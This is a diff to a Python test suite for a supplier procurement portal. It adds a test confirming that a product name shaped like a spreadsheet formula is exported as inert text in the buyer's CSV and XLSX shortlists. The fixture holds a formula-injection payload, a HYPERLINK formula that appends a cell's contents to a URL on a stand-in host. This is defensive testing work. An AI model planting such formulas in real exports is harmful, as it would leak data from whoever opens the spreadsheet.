@@ -2,16 +2,18 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy import select
 
 from posture.errors import ValidationFailed
 from posture.identity.permissions import Membership, NotFound, Principal
 from posture.storage.engine import transaction
-from posture.storage.models import AuditEvent
+from posture.storage.models import AuditEvent, Product
 from posture.storage.models.enums import Role
 from supplier_portal.forms import parse_form
 from supplier_portal.procurement import lots, shortlists
@@ -183,3 +185,23 @@ def test_another_buyer_cannot_see_my_shortlist(pw) -> None:
     )
     with pw.sessions() as session, pytest.raises(NotFound):
         shortlists.rank_products(session, stranger, requirement, _inputs(pw), TODAY)
+
+
+def test_a_product_named_like_a_formula_reaches_the_buyers_export_as_text(pw) -> None:
+    hostile = '=HYPERLINK("http://127.0.0.1:9/?"&B2,"Vault")'
+    with transaction(pw.sessions) as session:
+        session.get(Product, pw.products["vault"]).name = hostile
+    requirement = _requirement(pw, _listed(pw))
+    with transaction(pw.sessions) as session:
+        version = shortlists.save_shortlist(
+            session, pw.people["officer"], requirement, _inputs(pw), TODAY
+        ).id
+    with pw.sessions() as session:
+        csv_text = shortlists.export_csv(session, pw.people["officer"], version)
+        xlsx = shortlists.export_xlsx(session, pw.people["officer"], version)
+    names = [row["product"] for row in csv.DictReader(io.StringIO(csv_text))]
+    assert f"'{hostile}" in names
+    cells = [c for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for c in row]
+    shown = [c for c in cells if c.value == hostile]
+    assert shown
+    assert all(c.data_type == "s" for c in shown)
